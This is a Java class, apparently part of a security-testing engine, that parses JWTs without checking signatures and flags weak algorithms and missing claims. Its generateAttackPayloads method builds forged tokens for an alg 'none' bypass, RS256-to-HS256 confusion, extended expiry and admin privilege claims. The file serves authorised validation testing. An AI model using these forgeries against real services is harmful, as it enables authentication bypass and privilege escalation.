package engine.session;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import model.Severity;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.*;
import java.util.logging.Logger;

/**
 * JWT токен с декодированными (без проверки подписи) заголовком и payload.
 *
 * <p>Движок никогда не доверяет токенам: они только анализируются и используются
 * как основа для поддельных вариантов в {@link #generateAttackPayloads()}.
 */
public final class JwtToken {
    private static final Logger logger = Logger.getLogger(JwtToken.class.getName());
    private static final ObjectMapper objectMapper = new ObjectMapper();

    private static final Base64.Decoder DECODER = Base64.getUrlDecoder();
    private static final Base64.Encoder ENCODER = Base64.getUrlEncoder().withoutPadding();

    private static final Set<String> REGISTERED_CLAIMS = Set.of("iss", "sub", "aud", "exp", "nbf", "iat", "jti");

    private final String token;
    private final Header header;
    private final Payload payload;
    private final String tokenType;

    private JwtToken(String token, Header header, Payload payload) {
        this.token = token;
        this.header = header;
        this.payload = payload;
        this.tokenType = "Bearer";
    }

    /**
     * Разбирает токен без проверки подписи.
     * Заголовок и payload декодируются по возможности; при ошибке декодирования они отсутствуют.
     *
     * @param token строка токена из трех сегментов, разделенных точкой
     * @return разобранный токен
     * @throws SessionException если число сегментов отлично от трех
     */
    public static JwtToken parse(String token) throws SessionException {
        if (token == null) {
            throw new SessionException("Invalid JWT format: token is null");
        }
        String trimmed = token.trim();
        String[] parts = trimmed.split("\\.", -1);
        if (parts.length != 3) {
            throw new SessionException("Invalid JWT format: expected 3 segments, got " + parts.length);
        }

        Header header = decodeSegment(parts[0]).map(JwtToken::toHeader).orElse(null);
        Payload payload = decodeSegment(parts[1]).map(JwtToken::toPayload).orElse(null);
        return new JwtToken(trimmed, header, payload);
    }

    public String getToken() {
        return token;
    }

    public Optional<Header> getHeader() {
        return Optional.ofNullable(header);
    }

    public Optional<Payload> getPayload() {
        return Optional.ofNullable(payload);
    }

    public String getTokenType() {
        return tokenType;
    }

    public String toAuthorizationHeader() {
        return tokenType + " " + token;
    }

    public boolean isExpired() {
        if (payload == null || payload.exp() == null) {
            return false;
        }
        return Instant.now().getEpochSecond() > payload.exp();
    }

    /**
     * Статический анализ токена: слабый алгоритм, риск подмены ключа, отсутствующие claims.
     */
    public List<JwtSecurityIssue> analyzeSecurity() {
        List<JwtSecurityIssue> issues = new ArrayList<>();

        if (header != null && header.alg() != null) {
            String alg = header.alg().toLowerCase(Locale.ROOT);
            if (alg.equals("none")) {
                issues.add(new JwtSecurityIssue(JwtSecurityIssue.Type.WEAK_ALGORITHM, Severity.CRITICAL,
                    header.alg(), "Algorithm 'none' allows unsigned tokens"));
            } else if (alg.equals("hs256") && header.kid() != null) {
                issues.add(new JwtSecurityIssue(JwtSecurityIssue.Type.KEY_CONFUSION, Severity.HIGH,
                    "kid", "HS256 with kid may be vulnerable to key confusion"));
            }
        }

        if (payload != null) {
            if (payload.exp() == null) {
                issues.add(new JwtSecurityIssue(JwtSecurityIssue.Type.MISSING_CLAIM, Severity.MEDIUM,
                    "exp", "Token has no expiration time"));
            }
            if (payload.iss() == null) {
                issues.add(new JwtSecurityIssue(JwtSecurityIssue.Type.MISSING_CLAIM, Severity.LOW,
                    "iss", "Token has no issuer claim"));
            }
        }

        return issues;
    }

    /**
     * Генерирует поддельные варианты токена для проверки серверной валидации:
     * алгоритм none, подмена RS256 на HS256, обход срока действия, повышение привилегий.
     * Вариант пропускается, если соответствующий сегмент не декодируется.
     */
    public List<JwtAttackPayload> generateAttackPayloads() {
        List<JwtAttackPayload> payloads = new ArrayList<>();
        String[] parts = token.split("\\.", -1);

        forgeNoneAlgorithm(parts).ifPresent(forged -> payloads.add(new JwtAttackPayload(
            "None Algorithm Bypass", forged,
            "JWT with algorithm 'none' (unsigned)", Severity.CRITICAL)));

        forgeAlgorithmConfusion(parts).ifPresent(forged -> payloads.add(new JwtAttackPayload(
            "Algorithm Confusion", forged,
            "Changed RS256 to HS256 for key confusion attack", Severity.CRITICAL)));

        forgeExpirationBypass(parts).ifPresent(forged -> payloads.add(new JwtAttackPayload(
            "Expiration Bypass", forged,
            "Modified expiration time to bypass validation", Severity.HIGH)));

        forgeAdminClaims(parts).ifPresent(forged -> payloads.add(new JwtAttackPayload(
            "Privilege Escalation", forged,
            "Modified claims to gain admin privileges", Severity.CRITICAL)));

        return payloads;
    }

    private Optional<String> forgeNoneAlgorithm(String[] parts) {
        return decodeObject(parts[0]).map(header -> {
            header.put("alg", "none");
            return encode(header) + "." + parts[1] + ".";
        });
    }

    private Optional<String> forgeAlgorithmConfusion(String[] parts) {
        return decodeObject(parts[0]).map(header -> {
            header.put("alg", "HS256");
            return encode(header) + "." + parts[1] + ".SIGNATURE_PLACEHOLDER";
        });
    }

    private Optional<String> forgeExpirationBypass(String[] parts) {
        return decodeObject(parts[1]).map(claims -> {
            long futureExp = Instant.now().plus(365, ChronoUnit.DAYS).getEpochSecond();
            claims.put("exp", futureExp);
            return parts[0] + "." + encode(claims) + ".SIGNATURE_MODIFIED";
        });
    }

    private Optional<String> forgeAdminClaims(String[] parts) {
        return decodeObject(parts[1]).map(claims -> {
            claims.put("role", "admin");
            claims.put("is_admin", true);
            claims.putArray("permissions").add("admin").add("superuser");
            return parts[0] + "." + encode(claims) + ".SIGNATURE_MODIFIED";
        });
    }

    private static Optional<JsonNode> decodeSegment(String segment) {
        try {
            byte[] json = DECODER.decode(segment);
            return Optional.of(objectMapper.readTree(json));
        } catch (IllegalArgumentException | IOException e) {
            logger.fine("Unable to decode JWT segment: " + e.getMessage());
            return Optional.empty();
        }
    }

    private static Optional<ObjectNode> decodeObject(String segment) {
        return decodeSegment(segment)
            .filter(JsonNode::isObject)
            .map(node -> (ObjectNode) node.deepCopy());
    }

    private static String encode(JsonNode node) {
        try {
            return ENCODER.encodeToString(objectMapper.writeValueAsBytes(node));
        } catch (IOException e) {
            // ObjectNode serialization into a byte array does not perform I/O
            throw new IllegalStateException("Failed to serialize JWT segment", e);
        }
    }

    private static Header toHeader(JsonNode node) {
        if (!node.isObject() || !node.hasNonNull("alg")) {
            return null;
        }
        return new Header(node.get("alg").asText(), textOrNull(node, "typ"), textOrNull(node, "kid"));
    }

    private static Payload toPayload(JsonNode node) {
        if (!node.isObject()) {
            return null;
        }

        List<String> audience = new ArrayList<>();
        JsonNode aud = node.get("aud");
        if (aud != null && aud.isArray()) {
            aud.forEach(item -> audience.add(item.asText()));
        } else if (aud != null && !aud.isNull()) {
            audience.add(aud.asText());
        }

        Map<String, JsonNode> custom = new LinkedHashMap<>();
        node.fields().forEachRemaining(entry -> {
            if (!REGISTERED_CLAIMS.contains(entry.getKey())) {
                custom.put(entry.getKey(), entry.getValue());
            }
        });

        return new Payload(
            textOrNull(node, "iss"),
            textOrNull(node, "sub"),
            audience,
            longOrNull(node, "exp"),
            longOrNull(node, "nbf"),
            longOrNull(node, "iat"),
            textOrNull(node, "jti"),
            custom
        );
    }

    private static String textOrNull(JsonNode node, String field) {
        JsonNode value = node.get(field);
        return value != null && !value.isNull() ? value.asText() : null;
    }

    private static Long longOrNull(JsonNode node, String field) {
        JsonNode value = node.get(field);
        return value != null && value.canConvertToLong() ? value.asLong() : null;
    }

    @Override
    public String toString() {
        return "JwtToken{alg=" + (header != null ? header.alg() : "?") + "}";
    }

    /**
     * Декодированный заголовок JWT.
     */
    public record Header(String alg, String typ, String kid) {
    }

    /**
     * Декодированные claims JWT; незарегистрированные claims собраны в {@code custom}.
     */
    public record Payload(
        String iss,
        String sub,
        List<String> aud,
        Long exp,
        Long nbf,
        Long iat,
        String jti,
        Map<String, JsonNode> custom
    ) {
        public Payload {
            aud = aud != null ? List.copyOf(aud) : Collections.emptyList();
            custom = custom != null ? Collections.unmodifiableMap(new LinkedHashMap<>(custom)) : Collections.emptyMap();
        }
    }
}
